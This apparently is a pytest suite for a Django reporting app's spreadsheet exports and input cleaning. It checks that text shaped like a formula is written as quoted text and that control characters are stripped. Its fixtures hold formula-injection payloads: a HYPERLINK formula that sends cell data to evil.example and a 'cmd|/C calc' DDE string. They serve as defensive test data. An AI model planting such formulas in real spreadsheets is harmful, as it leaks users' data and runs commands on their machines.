"""Files out: no user text becomes a live formula in any .xlsx giaoban writes, numbers stay numbers, and text
holding control characters (typed before the input was cleaned) cannot break an export. Text in: what no
export or PostgreSQL can carry is cleaned on input, line breaks kept."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from rest_framework.test import APIClient

import giaoban
from giaoban.core.xlsx import table_to_xlsx
from giaoban.orgs import services as org_services
from giaoban.orgs.models import Committee, OrgUnit
from giaoban.reporting import consolidated, services
from giaoban.reporting.models import DataValue, Indicator, Submission

PERIOD = "2025W30"
EXFIL = '=HYPERLINK("http://evil.example/?d="&E8,"Xem")'
DDE = "+cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what spreadsheet programs take for the start of a formula


def sheet_xml(data: bytes) -> list[bytes]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]


def assert_no_formula(data: bytes) -> list:
    """No cell of any sheet holds a formula; formula-like text is quote-prefixed text. Returns the values."""
    for xml in sheet_xml(data):
        assert not re.search(rb"<(\w+:)?f[ >/]", xml), xml[:2000]
    values = []
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


@pytest.fixture
def hostile(tree, catalog, report):
    """Names and a narrative that look like formulas, and control characters stored before input cleaning
    existed (written past the services, as old rows would be)."""
    OrgUnit.objects.filter(pk=tree.n1.pk).update(name=EXFIL + "\x0b")
    Indicator.objects.filter(pk=catalog.posts.pk).update(name_vi="@SUM(1+1)*cmd", unit_of_measure="-bài\x01")
    s = report(tree.n1, catalog.weekly, PERIOD, {"POSTS": 56000, "NOTE": DDE}, status="draft")
    Submission.objects.filter(pk=s.pk).update(narrative={"results": "- ý một\x0b- ý hai\x1f\n\t=1+2"})
    report(tree.n2, catalog.weekly, PERIOD, {"POSTS": 279})
    return s


def test_it_writes_formula_like_text_as_text_in_the_template(client, tree, catalog, hostile, make_user):
    client.force_login(make_user("secretary", tree.p1))
    r = client.get(f"/reports/15061/W35/{PERIOD}/template.xlsx")
    assert r.status_code == 200  # a vertical tab in a narrative made this a 500 for everyone
    values = assert_no_formula(r.content)
    assert DDE in values and "@SUM(1+1)*cmd *" in values and "-bài" in values
    assert "- ý một\n- ý hai\n\t=1+2" in values
    assert any(isinstance(v, str) and v.startswith(EXFIL) for v in values)
    assert 56000 in values  # numbers stay numbers


def test_it_writes_formula_like_text_as_text_in_the_multi_unit_template(client, tree, catalog, hostile, make_user):
    client.force_login(make_user("secretary", tree.p1))
    r = client.get(f"/reports/38/W35/{PERIOD}/template.xlsx?below=1")
    assert r.status_code == 200
    assert_no_formula(r.content)
    assert any(n.startswith("15061 =HYPERLINK") for n in load_workbook(io.BytesIO(r.content)).sheetnames)


def test_it_writes_formula_like_text_as_text_in_the_rollup_export(client, tree, catalog, hostile, make_user):
    client.force_login(make_user("viewer", tree.p1))
    r = client.get(f"/reports/rollup.xlsx?indicator=POSTS&unit=38&period={PERIOD}")
    assert r.status_code == 200  # a NUL or vertical tab in a unit name broke a province's roll-up export
    values = assert_no_formula(r.content)
    assert EXFIL + "\n" in values and "-bài" in values and 279 in values


def test_it_writes_formula_like_text_as_text_in_the_consolidated_export(tree, catalog, hostile, committees):
    report = consolidated.report_find_or_build(committee=committees["38"], form=catalog.weekly, period=PERIOD)
    data = consolidated.export(report, "xlsx")
    values = assert_no_formula(data)
    assert EXFIL + "\n" in values and any(isinstance(v, str) and v.startswith("@SUM(1+1)*cmd") for v in values)


def test_table_to_xlsx_keeps_numbers_and_quotes_every_formula_start():
    rows = [[s + "x", 1, 2.5] for s in FORMULA_STARTS] + [["a\x00b\x0bc", None, -3]]
    data = table_to_xlsx([("=Sheet", ["=h", "+h", "@h"], rows)], title="=1+1")
    values = assert_no_formula(data)
    assert values[:1] == ["=1+1"] and "a\x00b" not in values
    ws = load_workbook(io.BytesIO(data)).active
    assert [ws.cell(r, 1).value for r in range(4, 10)] == ["=x", "+x", "-x", "@x", "\tx", "\nx"]
    assert ws["A10"].value == "ab\nc" and ws["C10"].value == -3 and ws["B4"].value == 1 and ws["C4"].value == 2.5


def test_only_core_xlsx_makes_or_saves_workbooks():
    """Future exports get the rules by using giaoban.core.xlsx: nothing else creates or saves a workbook."""
    root = Path(giaoban.__file__).parent
    offenders = []
    for path in root.rglob("*.py"):
        if path == root / "core" / "xlsx.py":
            continue
        text = path.read_text(encoding="utf-8")
        if "openpyxl" in text and re.search(r"\bWorkbook\b|\.save\(", text):
            offenders.append(str(path.relative_to(root)))
    assert offenders == []


# --- Text in ------------------------------------------------------------------------------------------


def test_clean_text_keeps_line_breaks_and_drops_what_no_export_can_carry():
    from giaoban.core.text import clean_line, clean_text

    assert clean_text("a\r\nb\rc\x0bd\x0ce\tf\x00g\x1fh\ud800i\ufffe") == "a\nb\nc\nd\ne\tfghi"
    assert clean_line("  Xã\tNgọc\nLặc\x00 ") == "Xã Ngọc Lặc"


def test_narratives_and_text_figures_are_cleaned_before_the_database(tree, catalog):
    s = services.submission_open(unit=tree.n1, form=catalog.weekly, period=PERIOD)
    s = services.submission_save_draft(
        submission=s,
        values={"NOTE": "a\x00b\x0bc"},
        narrative={"results": "Dòng một\x0bDòng hai\x00\r\nDòng ba"},
        expected_version=s.version,
    )
    s.refresh_from_db()
    assert s.narrative["results"] == "Dòng một\nDòng hai\nDòng ba"
    assert DataValue.objects.get(submission=s).text == "ab\nc"


def test_the_api_never_lets_a_nul_reach_the_database(tree, catalog, make_user):
    client = APIClient()
    client.force_authenticate(make_user("secretary", tree.p1))
    body = {"unit": "15061", "form": "W35", "period": PERIOD, "values": {"POSTS": "1", "NOTE": "a\x00b"}}
    # A NUL in a JSON body is refused with a message, before anything is written (never a database error).
    r = client.post("/api/v1/submissions/", body, format="json")
    assert r.status_code == 400 and r.json()["code"] == "parse_error"
    assert not Submission.objects.exists()
    # What people paste from Word is cleaned: a vertical tab becomes a line break.
    body["values"]["NOTE"] = "ab"
    r = client.post("/api/v1/submissions/", {**body, "narrative": {"results": "x\x0by"}}, format="json")
    assert r.status_code in (200, 201), r.content
    s = Submission.objects.get()
    assert s.narrative["results"] == "x\ny" and DataValue.objects.get(indicator__code="NOTE").text == "ab"
    rows = [{"unit": "15061\x00", "form": "W35", "period": "2025W31", "indicator": "NOTE", "value": "\x00z"}]
    r = client.post("/api/v1/datavalues/?draft=1", rows, format="json")
    assert r.status_code == 400 and r.json()["code"] == "parse_error"


def test_unit_committee_and_member_names_are_cleaned(tree):
    unit = org_services.orgunit_create(
        code="38200",
        name="Xã\x00 Mới\x0b",
        kind="commune",
        subtype="xa",
        parent=tree.p1,
        valid_from=date(2026, 1, 1),
    )
    assert unit.name == "Xã Mới"
    committee = Committee(name="Ban\x00 Chỉ đạo\x0b35", short_name="BCĐ\x0735", org_unit=tree.p1)
    committee.full_clean()
    committee.save()
    assert (committee.name, committee.short_name) == ("Ban Chỉ đạo 35", "BCĐ35")
    decision = org_services.committee_reconstitute(
        committee=committee,
        number="01\x00-QĐ",
        date=date(2026, 1, 1),
        kind="establish",
        start=[{"person_name": "Nguyễn\x00 Văn\x0bA", "role": "head", "position": "Bí thư\x01"}],
    )
    member = committee.memberships.get()
    assert (decision.number, member.person_name, member.position) == ("01-QĐ", "Nguyễn Văn A", "Bí thư")


def test_a_units_csv_with_a_nul_or_a_vertical_tab_is_cleaned(tree):
    org_services.orgunits_import_csv(
        "code,name,kind,subtype,parent_code,valid_from,valid_to\n38300,Xã\x00 Sạch\x0b,commune,xa,38,2026-01-01,\n"
    )
    assert OrgUnit.objects.get(code="38300").name == "Xã Sạch"


def test_a_nul_in_an_address_is_a_400_not_a_database_error(tree, make_user, client):
    api = APIClient()
    api.force_authenticate(make_user("system_admin", tree.vn))
    for url in ("/api/v1/orgunits/VN%00/", "/api/v1/orgunits/?q=%00", "/api/v1/rollup/?unit=38%00&indicator=X&period=2025W30"):
        r = api.get(url)
        assert r.status_code == 400 and "NUL" in r.json()["message"], (url, r.status_code)
    client.force_login(make_user("system_admin", tree.vn))
    assert client.get("/reports/rollup/?unit=%00").status_code == 400


def test_report_form_sections_are_cleaned(tree, catalog):
    form = services.reportform_create(
        code="SEC",
        name="Mẫu",
        period_type="month",
        scheme="calendar",
        deadline_working_days=3,
        unit_kinds=["commune"],
        active_from=date(2020, 1, 1),
        indicators=[catalog.posts],
        narrative_sections=[{"key": "a\x00", "title": "Kết quả\x00\x0bđạt được"}],
    )
    assert services.current_version(form).narrative_sections == [{"key": "a", "title": "Kết quả đạt được"}]
